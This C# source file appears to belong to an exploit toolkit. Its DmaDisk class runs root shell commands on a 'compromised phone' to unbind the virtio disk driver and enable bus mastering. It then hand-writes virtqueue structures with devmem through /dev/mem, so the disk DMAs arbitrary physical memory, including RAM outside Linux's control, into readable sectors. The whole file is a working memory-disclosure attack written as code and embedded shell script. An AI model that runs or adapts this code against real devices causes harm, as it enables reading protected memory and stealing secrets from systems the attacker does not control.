using System.Globalization;
using System.Text.RegularExpressions;
using Redoubt.Abi;

namespace Redoubt.Systems;

/// <summary>
/// The phone's disk (virtio over PCI: Virtual I/O Device 1.1, 4.1 and 5.2), taken from Linux's driver and told by root, through /dev/mem, which addresses to read.
/// What it has read is on the disk.
/// </summary>
internal sealed class DmaDisk
{
    /// <summary>Bytes that it reads at each address.</summary>
    public const int SectorSize = 512;

    // Root's RAM, which Linux leaves alone.
    private const ulong Free = GuestMap.Ram + (304UL << 20);

    private const int CommonKind = 1, NotifyKind = 2, VendorSpecific = 9, CapabilityPointer = 0x34;
    private const string Function = "/sys/bus/pci/devices/0000:00:02.0";

    private readonly CompromisedPhone _phone;
    private readonly ulong _common, _notify;

    /// <summary>Takes it.</summary>
    public DmaDisk(CompromisedPhone phone)
    {
        _phone = phone;
        // Memory and bus master, as the driver had them.
        phone.Linux.Run($"cd {Function}; echo 0000:00:02.0 > driver/unbind; printf '\\006' | dd of=config bs=1 seek=4 conv=notrunc 2>/dev/null; cd");
        byte[] config = Convert.FromHexString(Regex.Replace(phone.Linux.Run($"head -c 256 {Function}/config | xxd -p -c 256"), "[^0-9a-f]", ""));
        ulong[] bars = [.. phone.Linux.Run($"cat {Function}/resource").Split('\n').Take(6).Select(line => ulong.Parse(line.Split(' ')[0][2..], NumberStyles.HexNumber, CultureInfo.InvariantCulture))];
        for (int at = config[CapabilityPointer]; at != 0; at = config[at + 1])
        {
            ulong address = bars[config[at + 4]] + BitConverter.ToUInt32(config, at + 8);
            if (config[at] == VendorSpecific && config[at + 3] == CommonKind)
                _common = address;
            else if (config[at] == VendorSpecific && config[at + 3] == NotifyKind)
                _notify = address;
        }
    }

    /// <summary>Has the disk read memory into its first sectors.</summary>
    /// <param name="addresses">As the disk is told them.</param>
    /// <returns>For each: what is on the disk now.</returns>
    public IReadOnlyList<byte[]> Read(IReadOnlyList<ulong> addresses)
    {
        _phone.Script([Start, .. addresses.Select((address, sector) => $"move {sector} 0x{address:x}")]);
        byte[] disk = _phone.Disk;
        return [.. addresses.Select((_, sector) => disk[(sector * SectorSize)..((sector + 1) * SectorSize)])];
    }

    // Descriptors, available ring, used ring, header and status of the one request that is under way.
    private string Start => $$"""
        C=0x{{_common:x}} N=0x{{_notify:x}} Q=0x{{Free:x}}
        at() { printf '0x%x' $(($1 + $2)); }
        put() { devmem $(at $1 $2) $3 $4; }
        start() {
          put $C 0x14 8 0; put $C 0x14 8 1; put $C 0x14 8 3
          put $C 0x08 32 0; put $C 0x0c 32 0; put $C 0x08 32 1; put $C 0x0c 32 3
          put $C 0x14 8 11; put $C 0x16 16 0; put $C 0x18 16 8
          put $C 0x20 32 $(at $Q 0); put $C 0x24 32 0; put $C 0x28 32 $(at $Q 0x100); put $C 0x2c 32 0; put $C 0x30 32 $(at $Q 0x200); put $C 0x34 32 0
          put $Q 0x100 64 0; put $Q 0x108 64 0; put $Q 0x110 64 0; put $Q 0x200 64 0
          put $Q 0x00 64 $(at $Q 0x300); put $Q 0x08 64 0x0001000100000010
          put $Q 0x20 64 $(at $Q 0x340); put $Q 0x28 64 0x0000000200000001
          put $C 0x1c 16 1; put $C 0x14 8 15; n=0
        }
        move() {
          put $Q 0x300 64 1; put $Q 0x308 64 $1; put $Q 0x340 8 255
          put $Q 0x10 64 $2; put $Q 0x18 64 0x0002000100000200
          n=$((n + 1)); put $Q 0x102 16 $n; put $N 0 16 0
          tries=0
          while [ $(($(devmem $(at $Q 0x202) 16))) -ne $n ]; do
            tries=$((tries + 1))
            if [ $tries -gt 20 ]; then start; return; fi
          done
        }
        start
        """;
}
